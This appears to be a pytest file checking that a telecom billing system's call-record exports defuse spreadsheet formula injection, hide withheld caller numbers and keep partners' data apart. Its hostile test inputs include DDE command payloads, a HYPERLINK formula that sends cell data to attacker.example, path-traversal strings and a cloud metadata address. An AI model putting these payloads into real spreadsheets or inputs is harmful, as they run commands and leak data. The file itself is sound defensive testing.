"""What an attacker tries with files of call records: cells that run, callers who are not shown, what is another's."""

from __future__ import annotations

import gzip
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from pyarrow import parquet

from bridge.database import Connection, connect
from bridge.errors import Invalid
from bridge.exports.cdr_files import extract
from bridge.exports.sequence import seal
from tests.exporting import BEGIN, Laid, lay, read, recipient, settings
from tests.postgres.conftest import Filled

# What may stand in a number as received, or in what was dialled: the switch passes it on.
HOSTILE = (
    "=cmd|' /C calc'!A0", "+49=1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "  =1+1", "\x01=1+1", "＝1+1", "＋1", "－1", "＠x", '"=1+1', 'a"b,c', "a\nb", "a\r\nb", "x\u2028y", "\\.", "\\N",
    '=HYPERLINK("http://attacker.example/?"&A1,"x")', "++49", "+", "-", "=", "@", "49\t", "\x7f=1", "٠١٢", "+٤٩",
)  # fmt: skip
SECRET = "+4917012345678"


@dataclass(frozen=True, slots=True)
class Scene:
    laid: Laid
    withheld: UUID


async def scene(_: Any, conn: Connection) -> Scene:
    """Calls with hostile numbers, one from a caller who is not shown, and one given another price."""
    laid = await lay(conn, 40, inbound=(38,))
    await conn.execute(
        """UPDATE call c SET a_number = h.text, dialled = h.text
             FROM unnest($1::text[]) WITH ORDINALITY AS h (text, place) WHERE c.uniqueid::integer = h.place""",
        list(HOSTILE),
    )
    withheld = await conn.fetchval(
        "UPDATE call SET a_number = 'anonymous' WHERE uniqueid = '38' RETURNING call_id"
    )
    await conn.execute(
        "INSERT INTO call_withheld (call_id, a_number, why) VALUES ($1, $2, 'asked')", withheld, SECRET
    )
    # And one who called out without being shown, over the carrier's trunk
    await conn.execute("UPDATE call SET anonymous = true, a_number = $1 WHERE uniqueid = '36'", SECRET)
    run_id = await conn.fetchval(
        """INSERT INTO rerate_run (criteria, author, reason, state, totals, closed_at)
           VALUES ('{}', 'x', 'x', 'done', '{}', now()) RETURNING run_id"""
    )
    await conn.execute(
        """INSERT INTO rerating (call_id, revision, run_id, sell, billed_s, amount_micro, written_off_micro, buy,
                                 buy_billed_s, cost_micro)
           SELECT c.call_id, 1, $1, c.sell || '{"rate_micro": 120000, "rate_id": "=later", "version": 4}', h.billed_s,
                  h.amount_micro * 2, 0, x.buy, x.billed_s, x.cost_micro
             FROM call c JOIN charge h USING (call_id) JOIN attempt x USING (call_id) WHERE c.uniqueid = '37'""",
        run_id,
    )
    await seal(conn, laid.until + timedelta(days=60), thorough=True)
    return Scene(laid, withheld)


@pytest.fixture(scope="module")
def place(filled: Filled) -> tuple[str, Scene]:
    # The texts of calls are changed after they were numbered: nothing of them is in a record.
    return filled(scene)


@pytest.fixture
async def conn(place: tuple[str, Scene]) -> AsyncIterator[Connection]:
    async with connect(place[0]) as conn:
        yield conn


async def extracted(
    conn: Connection,
    place: tuple[str, Scene],
    folder: Path,
    partner_id: UUID | None,
    kind: str = "cdr",
    form: str = "csv",
) -> Path:
    path, _ = await extract(
        conn, settings(folder), folder, partner_id=partner_id, whose="x", kind=kind, since=BEGIN,
        until=place[1].laid.until + timedelta(days=60), form=form,
    )  # fmt: skip
    return path


async def test_no_cell_runs_and_a_row_is_a_line(
    conn: Connection, place: tuple[str, Scene], tmp_path: Path
) -> None:
    for kind in ("cdr", "quality", "correction"):
        path = await extracted(conn, place, tmp_path, None, kind)
        lines = gzip.decompress(path.read_bytes()).decode().split("\n")
        rows = read(path)
        assert len(lines) == len(rows) + 2  # the header, and nothing after the last end
        for row in rows:
            for name, text in row.items():
                if name in ("duration_ms", "billed_s", "amount"):
                    continue  # numbers, which may be negative
                assert text.strip()[:1] not in tuple("=+-@＝＋－＠") or not text, (name, text)
                assert text.isprintable(), (name, text)


async def test_hostile_cells_are_the_same_in_every_format(
    conn: Connection, place: tuple[str, Scene], tmp_path: Path
) -> None:
    by_csv = read(await extracted(conn, place, tmp_path, None))
    by_json = gzip.decompress((await extracted(conn, place, tmp_path, None, form="jsonl")).read_bytes())
    table = parquet.read_table(await extracted(conn, place, tmp_path, None, form="parquet"))
    for name in ("cli_received", "cld_dialled"):
        cells = [row[name] for row in by_csv]
        assert [json.loads(line)[name] or "" for line in by_json.decode().split("\n")[:-1]] == cells
        assert [value or "" for value in table.column(name).to_pylist()] == cells
    assert "'=cmd|' /C calc'!A0" in {row["cli_received"] for row in by_csv}
    assert {"'+49=1+1", "'++49", "'+"} <= {row["cli_received"] for row in by_csv}


async def test_a_caller_who_is_not_shown_is_in_no_file(
    conn: Connection, place: tuple[str, Scene], tmp_path: Path
) -> None:
    laid = place[1].laid
    for partner_id in (laid.ours, laid.carrier, None):
        for kind in ("cdr", "quality"):
            path = await extracted(conn, place, tmp_path, partner_id, kind)
            rows = read(path)
            inbound = [row for row in rows if row["call_id"] == place[1].withheld.hex]
            if kind == "cdr":
                trunks = {row["trunk_in"] for row in inbound if row["leg"] == "origination"}
                assert trunks == {laid.ours: {""}, laid.carrier: set(), None: {"theirs"}}[partner_id]
            assert all(row["cli_received"] == "anonymous" and not row["cli_presented"] for row in inbound)
            assert all(row["cli_presented"] != SECRET[1:] for row in rows)
            # The one who called out is known to whose subscriber it is, and to nobody else.
            shown = [row for row in rows if row["cli_received"] == SECRET[1:]]
            assert all(row["leg"] == "origination" for row in shown)
            assert bool(shown) == (kind == "cdr" and partner_id in (laid.ours, None))


async def test_a_partner_reads_nothing_of_others(
    conn: Connection, place: tuple[str, Scene], tmp_path: Path
) -> None:
    laid = place[1].laid
    for partner_id, leg, rate in ((laid.ours, "origination", "0.06"), (laid.carrier, "termination", "0.03")):
        for kind in ("cdr", "quality"):
            path = await extracted(conn, place, tmp_path, partner_id, kind)
            rows = read(path)
            assert {(row["leg"], row["rate"]) for row in rows} <= {(leg, rate)}
            assert rows or kind == "quality"
            text = gzip.decompress(path.read_bytes()).decode()
            assert "quiet" not in text
            if partner_id == laid.ours:
                assert "theirs" not in text and "Beta" not in text and "wholesale" not in text
            else:
                assert {row["trunk_out"] for row in rows} == {"theirs"}
                assert "anonymous" in {row["cli_received"] for row in rows} or kind == "quality"
                assert "Acme" not in text and "retail" not in text
                assert {row["cld_dialled"] for row in rows} == {""}


async def test_a_later_price_is_taken_back_and_booked_anew(
    conn: Connection, place: tuple[str, Scene], tmp_path: Path
) -> None:
    back, anew = read(await extracted(conn, place, tmp_path, place[1].laid.ours, "correction"))
    assert (back["kind"], anew["kind"]) == ("reversal", "rebooking")
    assert back["call_id"] == anew["call_id"] and back["revision"] == anew["revision"] == "1"
    assert back["amount"].startswith("-") and float(anew["amount"]) == -2 * float(back["amount"])
    assert back["billed_s"] == f"-{anew['billed_s']}"
    assert (back["rate"], anew["rate"], anew["deck_version"]) == ("0.06", "0.12", "4")
    assert anew["rate_id"] == "'=later"


@pytest.mark.parametrize("code", ["../x", "a/b", "A_B", "", "x" * 21, "é", "a.b", "A\n", "A "])
async def test_a_code_leads_nowhere(conn: Connection, code: str) -> None:
    with pytest.raises(Invalid):
        await recipient(conn, code)


@pytest.mark.parametrize(
    "target",
    [
        {"kind": "directory", "path": "relative"},
        {"kind": "directory", "path": "/srv/../etc"},
        {"kind": "directory"},
        {"kind": "http", "url": "http://169.254.169.254/"},
        {"kind": "sftp", "host": "h", "user": "u"},
        {},
    ],
)
async def test_a_target_is_one_of_those_that_are_known(conn: Connection, target: dict[str, Any]) -> None:
    with pytest.raises(Invalid, match="target"):
        await recipient(conn, "T", target=target or {"kind": ""})


async def test_codes_differ_where_no_case_is_known(conn: Connection) -> None:
    await recipient(conn, "Case")
    with pytest.raises(Exception, match=r"taken|duplicate"):
        await recipient(conn, "cASE")


async def test_tap_is_of_calls_only(conn: Connection) -> None:
    with pytest.raises(Invalid, match="TAP3"):
        await recipient(conn, "TAP", types=("cdr", "quality"), form="tap3")
